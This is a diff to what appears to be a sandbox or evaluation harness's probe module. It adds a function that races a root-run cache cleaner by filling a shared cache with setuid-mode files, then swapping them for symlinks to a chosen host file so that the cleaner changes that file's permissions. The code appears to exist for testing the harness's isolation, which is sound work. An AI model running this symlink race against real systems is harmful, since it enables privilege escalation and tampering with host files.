@@ -10,6 +10,7 @@ import os
 import shutil
 import socket
 import sys
+import time
 from pathlib import Path
 
 CACHE = os.environ.get("MICROCTX_CANDIDATE_CACHE", "")
@@ -66,4 +67,38 @@ def write_root(public_path, output_path, *, devkit_path=None, params=None):
         _try(report, path, lambda p=path: Path(p).write_text("x"))
     _try(report, "/candidate/planted", lambda: Path("/candidate/planted").write_text("x"))
     _try(report, "/tmp/planted", lambda: Path("/tmp/planted").write_text("x"))
+    _submit(public_path, output_path, report)
+
+
+def race_cache_cleaning(public_path, output_path, *, devkit_path=None, params=None):
+    """Race another run's cache cleaning (a sweep's runs share the cache folder and run side by
+    side): fill the cache with set-id files, and once the cleaner has listed them and started
+    clearing their bits, swap every file it has not reached yet for a link to a host file (the
+    `victim` it was told about), in the order the cleaner walks them, from the far end. A cleaner
+    that clears the bits by name follows the link and changes the host file's mode as root."""
+    params = params or {}
+    cache, count = Path(CACHE), int(params.get("count", 15000))
+    for n in range(count):
+        fd = os.open(cache / f"s{n}", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
+        os.fchmod(fd, 0o4777)
+        os.close(fd)
+    names = [e.name for e in os.scandir(cache) if e.name.startswith("s")]  # the cleaner's order: the same listing
+    (cache / "racer-ready").write_text("ready")
+    report = {"files": len(names), "swapped": 0, "started": False}
+    deadline = time.monotonic() + float(params.get("wait", 120))
+    while time.monotonic() < deadline:  # the cleaner clears the first listed file's bit: its loop has begun
+        if not os.lstat(cache / names[0]).st_mode & 0o4000:
+            report["started"] = True
+            break
+    if report["started"]:
+        for name in reversed(names):
+            path = cache / name
+            try:
+                if not os.lstat(path).st_mode & 0o4000:
+                    break  # the cleaner got here first: the rest is behind it
+                os.symlink(params["victim"], cache / "swap")
+                os.rename(cache / "swap", path)
+                report["swapped"] += 1
+            except OSError:
+                break
     _submit(public_path, output_path, report)
